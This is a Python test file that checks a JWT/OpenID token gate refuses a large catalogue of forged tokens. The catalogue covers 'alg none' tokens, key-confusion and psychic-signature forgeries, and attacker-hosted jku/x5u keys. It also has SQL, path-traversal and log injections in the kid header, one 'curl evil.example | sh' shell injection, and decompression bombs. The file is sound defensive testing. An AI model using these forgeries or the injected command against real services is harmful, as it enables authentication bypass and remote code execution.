"""Tokens that are meant to get in and must not: one answer for all, nothing fetched for them, nothing logged.

The gate of these tests trusts two providers (one pinned to RS256, one to ES256) and its own secret. Where a
token is bad in one way alone, it is good in all others: it carries a good signature of a trusted key.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import zlib
from typing import TYPE_CHECKING, Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from hypothesis import example, given
from hypothesis import strategies as st

from auth import jws
from auth.issuers import ForeignClaims
from auth.principal import TENANT_SCOPES, NotAuthenticated
from auth.tokens import Claims
from tests.auth import support
from tests.auth.support import NOW, SECRET, TokenGate, kid_of
from tests.support.openid import AUDIENCE, KeyRing, OpenIDProvider, base64url, compact, hmac_signed

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

RSA, EC, THIEF = KeyRing("https://rsa.example"), KeyRing("https://ec.example", "ES256"), KeyRing()
RSA.rotate(kid="rsa-2")
EC.rotate("ES256", kid="ec-2")
RSA_KEY, EC_KEY, THIEF_KEY = (ring.keys[ring.signs] for ring in (RSA, EC, THIEF))
PROVIDERS = {f"{ring.issuer}/keys": ring for ring in (RSA, EC)}
RETIRED = "r" * 32


def rsa(**changes: Any) -> str:
    """A token of the first provider; good, but for the changes to its claims."""
    return RSA.sign(RSA.claims(NOW, **changes))


def rsa_raw(name: str, value: str) -> str:
    """The same, with a value that `json` would not write."""
    return RSA.sign(json.dumps(RSA.claims(NOW, **{name: "@"})).replace('"@"', value).encode())


def rsa_header(**header: Any) -> str:
    return RSA.sign(RSA.claims(NOW), header=header)


def rsa_spelt(header: bytes) -> str:
    """The same, with a header in any spelling."""
    text = compact(header, RSA.claims(NOW))
    return f"{text}.{RSA_KEY.sign(text)}"


def ec(r: int, s: int, size: int = 32) -> str:
    """A token of the second provider with these two numbers for a signature."""
    return f"{EC_TEXT}.{base64url(r.to_bytes(size, 'big') + s.to_bytes(size, 'big'))}"


def stolen(**header: Any) -> str:
    """Signed by somebody else, in the first provider's name."""
    return THIEF.sign(RSA.claims(NOW), header=header)


def confused(secret: bytes, alg: str = "HS256") -> str:
    """The public key taken for an HMAC secret (CVE-2016-10555, CVE-2024-33663)."""
    return hmac_signed({"alg": alg, "kid": RSA.signs, "typ": "JWT"}, RSA.claims(NOW), secret)


def unsigned(alg: Any, signature: str = "") -> str:
    return f"{compact({'alg': alg, 'kid': RSA.signs, 'typ': 'JWT'}, RSA.claims(NOW))}.{signature}"


GOOD, GOOD_EC, GOOD_OWN = rsa(), EC.sign(EC.claims(NOW)), support.forge(support.claims())
HEAD, BODY, SIGNATURE = GOOD.split(".")
EC_TEXT, _, EC_SIGNATURE = GOOD_EC.rpartition(".")
EC_OCTETS = base64.urlsafe_b64decode(EC_SIGNATURE + "==")
R, S = (int.from_bytes(half, "big") for half in (EC_OCTETS[:32], EC_OCTETS[32:]))
N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # the order of P-256
BOMB = zlib.compressobj(9, wbits=-15)
BOMB_OCTETS = BOMB.compress(b"x" * 10_000_000)[:4000] + BOMB.flush()[:1000]
SPELT = json.dumps(RSA.claims(NOW)).encode()
HEADER = json.dumps({"alg": "RS256", "kid": RSA.signs}).encode()

HOSTILE: dict[str, str | Callable[[str], str]] = {
    # --- no signature, or one that proves nothing
    **{f"alg {alg}": unsigned(alg) for alg in ("none", "None", "nOnE", "NONE", "")},
    **{f"alg {alg}, signed": unsigned(alg, SIGNATURE) for alg in ("none", "nOnE", "rs256", "RS256 ")},
    **{f"alg is {alg!r}": unsigned(alg, SIGNATURE) for alg in (None, 7, True, ["RS256"], {"RS256": 1})},
    "HS256 by the PEM": confused(RSA_KEY.pem().encode()),
    "HS256 by the PEM without its end of line": confused(RSA_KEY.pem().strip().encode()),
    "HS512 by the PEM": confused(RSA_KEY.pem().encode(), "HS512"),
    "HS256 by the DER": confused(RSA_KEY.der()),
    "HS256 by the JWK": confused(json.dumps(RSA_KEY.jwk()).encode()),
    "HS256 by the modulus": confused(RSA_KEY.jwk()["n"].encode()),
    "HS256 by nothing": confused(b""),
    "HS256 by the gate's secret": confused(SECRET.encode()),
    "HS256, said to be RS256": confused(RSA_KEY.pem().encode(), "RS256"),
    "signature stripped": f"{HEAD}.{BODY}.",
    "signature left out": f"{HEAD}.{BODY}",
    "signature cut": GOOD[:-4],
    "signature prolonged": GOOD + "AAAA",
    "signature of another token": f"{HEAD}.{BODY}.{rsa(jti='other').split('.')[2]}",
    "signature of zeros": f"{HEAD}.{BODY}.{base64url(bytes(256))}",
    "claims of another token": f"{HEAD}.{rsa(tenant='evil').split('.')[1]}.{SIGNATURE}",
    "psychic, r = s = 0": ec(0, 0),  # CVE-2022-21449
    "psychic, r = s = n": ec(N, N),
    "ES256, r = 0": ec(0, S),
    "ES256, s = 0": ec(R, 0),
    "ES256, wider": ec(R, S, 33),
    "ES256, s + n": ec(R, S + N, 33),
    "ES256, in DER": f"{EC_TEXT}.{base64url(encode_dss_signature(R, S))}",
    "ES256, empty": f"{EC_TEXT}.",
    # --- somebody else's key
    "a stranger's key": stolen(),
    "a stranger's key by our name for one": stolen(kid=RSA.signs),
    "a stranger's token": THIEF.sign(THIEF.claims(NOW)),
    "RS256 for the issuer that is pinned to ES256": RSA.sign(EC.claims(NOW)),
    "RS256 by the id of the ES256 key": EC.sign(EC.claims(NOW), alg="RS256"),
    "ES256 for the issuer that is pinned to RS256": EC.sign(RSA.claims(NOW)),
    "the one issuer's key in the other's name": THIEF.sign(EC.claims(NOW), alg="ES256"),
    "in our own name, by a provider": RSA.sign(support.claims()),
    "in a provider's name, by our secret": support.forge(RSA.claims(NOW)),
    "ours, by a secret that is no more": support.forge(support.claims(), {"kid": kid_of(RETIRED)}, RETIRED),
    "ours, by a secret that is no more, renamed": support.forge(support.claims(), secret=RETIRED),
    "ours, unsigned": f"{compact({'alg': 'none', 'kid': kid_of(SECRET)}, support.claims())}.",
    # --- keys that the token names, brings along or points at
    "kid of nobody": rsa_header(kid="nobody"),
    "kid of the other issuer": rsa_header(kid=EC.signs),
    "kid that leaves its folder": rsa_header(kid="../../../../../../dev/null"),
    "kid, SQL": rsa_header(kid="x' UNION SELECT 'key' -- "),
    "kid, shell": rsa_header(kid="/dev/null; curl evil.example | sh"),
    "kid with NUL": rsa_header(kid=f"{RSA.signs}\0"),
    "kid with a line end": rsa_header(kid=f"{RSA.signs}\nlevel=INFO"),
    "kid, half a character": rsa_header(kid="\ud800"),
    "kid, 257 characters": rsa_header(kid="k" * 257),
    "kid, 10 KB": rsa_header(kid="k" * 10_000),
    "kid, a URL": lambda url: stolen(kid=url),
    "kid, empty": rsa_header(kid=""),
    **{f"kid is {kid!r}": rsa_header(kid=kid) for kid in (7, True, ["rsa-2"], {"rsa-2": 1})},
    "kid null": rsa_spelt(b'{"alg":"RS256","kid":null}'),
    "no kid where there is a choice": rsa_spelt(b'{"alg":"RS256"}'),
    **{
        f"{name} to the thief": (lambda url, name=name: stolen(**{name: url}))  # type: ignore[misc]
        for name in ("jku", "x5u")
    },
    **{
        f"{name} to the thief, signed by us": (lambda url, name=name: rsa_header(**{name: url}))  # type: ignore[misc]
        for name in ("jku", "x5u")
    },
    "jwk of the thief": stolen(jwk=THIEF_KEY.jwk()),
    "jwk of the thief by our name": stolen(kid=RSA.signs, jwk=THIEF_KEY.jwk(kid=RSA.signs)),
    "jwk, a secret": hmac_signed(
        {"alg": "HS256", "jwk": {"kty": "oct", "k": base64url(b"e" * 32)}}, RSA.claims(NOW), b"e" * 32
    ),
    "x5c of the thief": stolen(x5c=[base64.b64encode(THIEF_KEY.der()).decode()]),
    # --- headers that ask for something
    "crit": rsa_header(crit=["exp"]),
    "crit, empty": rsa_header(crit=[]),
    "b64": rsa_header(b64=False, crit=["b64"]),
    "b64 alone": rsa_header(b64=True),
    "zip": rsa_header(zip="DEF"),
    "enc": rsa_header(enc="A256GCM"),
    **{f"typ {typ!r}": rsa_header(typ=typ) for typ in ("JWE", "logout+jwt", "dpop+jwt", "", 7, ["JWT"])},
    # --- for somebody else
    **{
        f"iss is {iss!r}": rsa(iss=iss)
        for iss in ("https://rsa.example/", "https://RSA.example", "https://rsa.exampl", "", 7, [RSA.issuer])
    },
    "no iss": rsa(iss=None),
    "iss null": rsa_raw("iss", "null"),
    **{
        f"aud is {aud!r}": rsa(aud=aud)
        for aud in (
            "other",
            "",
            AUDIENCE + "/",
            AUDIENCE[:-1],
            ["other"],
            [],
            [AUDIENCE, 7],
            {AUDIENCE: 1},
            7,
        )
    },
    "no aud": rsa(aud=None),
    "aud null": rsa_raw("aud", "null"),
    # --- not now
    "no exp": rsa(exp=None),
    **{
        f"exp is {exp}": rsa_raw("exp", exp)
        for exp in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "-1", "0", "true", "null", "[]", "{}")
    },
    "exp is text": rsa(exp=str(NOW + 600)),
    "exp, 400 digits": rsa(exp=10**400),
    "exp, 5000 digits": rsa_raw("exp", "9" * 5000),
    "exp, beyond the skew": rsa(iat=NOW - 600, exp=NOW - 60),
    "no iat": rsa(iat=None),
    "exp, too far ahead": rsa(exp=NOW + 86_400 + 61),
    "exp, milliseconds": rsa(exp=(NOW + 600) * 1000),
    "a long life on its last day": rsa(iat=NOW - 86_400, exp=NOW + 600),
    **{
        f"{name} is {value}": rsa_raw(name, str(value))
        for name in ("nbf", "iat")
        for value in (NOW + 61, f'"{NOW}"', "true", "null", "NaN", "-1", "1e400", "[]")
    },
    # --- claims in a shape that is not known
    **{
        f"{name} is {value}": rsa_raw(name, value)
        for name in ("tenant", "sub", "jti")
        for value in ("1.5", "true", "[]", '["acme"]', '{"id": "acme"}', '""', '"a\\u0000"', '"\\ud800"')
    },
    "no tenant": rsa(tenant=None),
    "tenant null": rsa_raw("tenant", "null"),
    "tenant too long": rsa(tenant="t" * 201),
    "tenant, 300 digits": rsa(tenant=10**300),
    "sub is a number": rsa(sub=7),
    "sub too long": rsa(sub="s" * 201),
    "jti is a number": rsa(jti=7),
    "jti too long": rsa(jti="j" * 129),
    "jti null": rsa_raw("jti", "null"),
    **{f"scope is {value}": rsa_raw("scope", value) for value in ("7", "true", "{}", '["chat", 7]', "[[]]")},
    # --- not what it seems
    "1 MB": rsa(pad="x" * 1_000_000),
    "just too long": rsa(pad="x" * (jws.MAX_TOKEN_CHARACTERS * 3 // 4 - len(BODY) // 2)),
    "a JWE": ".".join([base64url(b'{"alg":"dir","enc":"A256GCM"}'), "", "aaaa", "bbbb", "cccc"]),
    "a JWE with a bomb": ".".join(
        [base64url(b'{"alg":"dir","enc":"A256GCM","zip":"DEF"}'), "", "aaaa", base64url(BOMB_OCTETS), "cccc"]
    ),
    "a bomb": RSA.sign(BOMB_OCTETS, header={"zip": "DEF"}),
    "a JWS in JSON": json.dumps({"protected": HEAD, "payload": BODY, "signature": SIGNATURE}),
    "a deep payload": RSA.sign(SPELT[:-1] + b', "a": ' + b"[" * 2000 + b"]" * 2000 + b"}"),
    "a deep header": rsa_spelt(HEADER[:-1] + b', "a": ' + b"[" * 1500 + b"]" * 1500 + b"}"),
    "a claim twice": RSA.sign(SPELT[:-1] + b', "tenant": "evil"}'),
    "a claim twice, deep": RSA.sign(SPELT[:-1] + b', "a": {"b": 1, "b": 2}}'),
    "a number beyond numbers, unread": RSA.sign(SPELT[:-1] + b', "a": 1e400}'),
    "no number, unread": RSA.sign(SPELT[:-1] + b', "a": [NaN]}'),
    "alg twice": rsa_spelt(HEADER[:-1] + b', "alg": "none"}'),
    "kid twice": rsa_spelt(HEADER[:-1] + b', "kid": "rsa-2"}'),
    "a byte order mark": RSA.sign(b"\xef\xbb\xbf" + SPELT),
    "more than JSON": RSA.sign(SPELT + b"x"),
    **{
        f"payload {payload[:12]!r}": RSA.sign(payload)
        for payload in (b"", b"[]", b'"text"', b"7", b"null", b"\xff\xfe", b"{")
    },
    "payload in UTF-16": RSA.sign(SPELT.decode().encode("utf-16")),
    "padding": f"{GOOD}==",
    "padding in the middle": f"{HEAD}=.{BODY}.{SIGNATURE}",
    "standard alphabet": f"{HEAD}.{BODY}.{SIGNATURE.replace('-', '+').replace('_', '/')}",
    "space before": f" {GOOD}",
    "space after": f"{GOOD} ",
    "line end after": f"{GOOD}\n",
    "line end within": f"{HEAD}.{BODY[:9]}\n{BODY[9:]}.{SIGNATURE}",
    "NUL after": f"{GOOD}\0",
    "full-width": GOOD.replace(".", "\uff0e"),
    "half a character": f"\ud800{GOOD}",
    "two tokens": f"{GOOD},{GOOD}",
    "four parts": f"{GOOD}.x",
    "dots": "..",
    "nothing": "",
    "not base64": "a.b.c",
}


@pytest.fixture(scope="module")
def thief() -> Iterator[OpenIDProvider]:
    """A server with the keys of the attacker, to be pointed at."""
    with OpenIDProvider() as server:
        yield server


@pytest.fixture
async def gate() -> TokenGate:
    """A gate that knows the keys, and may ask for them again."""
    made = TokenGate(PROVIDERS)
    made.clock.seconds = -30
    for token in (GOOD, GOOD_EC, GOOD_OWN):
        await made.admit(token)
    made.asked.clear()
    made.clock.seconds = 0
    return made


async def test_what_is_not_hostile_gets_in(gate):
    """Whatever is refused below is refused for its own fault."""
    assert [type(await gate.admit(token)) for token in (GOOD, GOOD_EC)] == [ForeignClaims] * 2
    assert isinstance(await gate.admit(GOOD_OWN), Claims)
    await gate.admit(rsa_raw("exp", str(NOW + 600)))
    await gate.admit(rsa_header(typ="at+JWT"))
    await gate.admit(RSA.sign(SPELT[:-1] + b', "a": ' + b"[" * 50 + b"]" * 50 + b"}"))
    assert not {GOOD, GOOD_EC, GOOD_OWN} & set(HOSTILE.values())


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_token_is_refused(gate, thief, caplog, name):
    """The same words for all, one fetch at most and never from the thief, nothing logged, nothing spoilt."""
    caplog.set_level(logging.DEBUG)
    made = HOSTILE[name]
    token = made if isinstance(made, str) else made(thief.jwks_url)
    with pytest.raises(NotAuthenticated) as refused:
        await gate.admit(token)
    assert str(refused.value) == str(NotAuthenticated())
    assert refused.value.__cause__ is None
    assert refused.value.__suppress_context__ or refused.value.__context__ is None
    assert gate.asked in ([], *([url] for url in PROVIDERS))
    assert thief.requests == []
    assert not any(part in caplog.text for part in token.split(".") if len(part) > 3)
    for good in (GOOD, GOOD_EC, GOOD_OWN):
        await gate.admit(good)


async def test_all_of_them_together_cost_one_fetch_of_each_provider(gate, thief):
    """A stranger cannot make the gate hammer them."""
    for made in HOSTILE.values():
        with pytest.raises(NotAuthenticated):
            await gate.admit(made if isinstance(made, str) else made(thief.jwks_url))
    assert len(gate.asked) == len(set(gate.asked)) <= len(PROVIDERS)


def admitted(token: str) -> Claims | ForeignClaims | None:
    """What a new gate makes of a token; anything else that is raised fails the test."""
    try:
        return asyncio.run(TokenGate(PROVIDERS).admit(token))
    except NotAuthenticated:
        return None


@given(
    st.text(max_size=80)
    | st.binary(max_size=80).map(lambda octets: octets.decode("latin-1"))
    | st.lists(st.binary(max_size=60).map(base64url), min_size=2, max_size=5).map(".".join)
)
@example("." * 8192)
@example("\ud800.\ud800.\ud800")
def test_anything_at_all_is_refused_as_such(text):
    """Arbitrary texts and octets never raise another error, and never get in."""
    assert admitted(text) is None


@given(
    token=st.sampled_from([GOOD, GOOD_EC, GOOD_OWN]),
    position=st.floats(0, 1, exclude_max=True),
    cut=st.integers(0, 5),
    put=st.text(max_size=3) | st.text("abcdefghijklmnopABCDEFGHIJKLMNOP0123456789-_.=", max_size=5),
)
@example(GOOD_EC, 0.0, 0, "")
def test_a_token_is_good_only_as_it_is(token, position, cut, put):
    """Whatever is taken out or put in, anywhere, it is refused; unchanged, it is not."""
    at = int(position * len(token))
    changed = token[:at] + put + token[at + cut :]
    assert (admitted(changed) is not None) == (changed == token)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
NAMES = ["iss", "aud", "exp", "nbf", "iat", "jti", "sub", "tenant", "scope"]


@given(st.dictionaries(st.sampled_from(NAMES), JSON, min_size=1, max_size=3))
@example({"exp": NOW + 59.5, "scope": ["admin", "chat"]})
def test_a_trusted_provider_that_has_gone_mad_breaks_nothing(changes):
    """Any JSON in any claim, well signed: it is refused, or it is what the gate's own words allow."""
    claims = admitted(EC.sign(EC.claims(NOW) | changes))
    if claims is not None:
        assert isinstance(claims, ForeignClaims)
        assert claims.issuer == EC.issuer
        assert isinstance(claims.tenant, str)
        assert claims.scopes <= TENANT_SCOPES
        assert NOW < claims.expires_at <= NOW + 86_400 + 120
        assert claims.end_user is None or claims.end_user.isprintable()


@given(st.dictionaries(st.sampled_from(["alg", "kid", "typ", "crit", "jku", "cty", "x5t"]), JSON, min_size=1))
def test_a_header_of_any_kind_breaks_nothing(header):
    """Any JSON in any member, well signed: it is refused, or it asked for nothing that counts."""
    members = {"alg": "ES256", "kid": EC.signs} | header
    text = compact(members, EC.claims(NOW))
    claims = admitted(f"{text}.{EC_KEY.sign(text)}")
    if claims is not None:
        assert (members["alg"], members["kid"]) == ("ES256", EC.signs)
        assert not {"crit", "jku"} & members.keys()
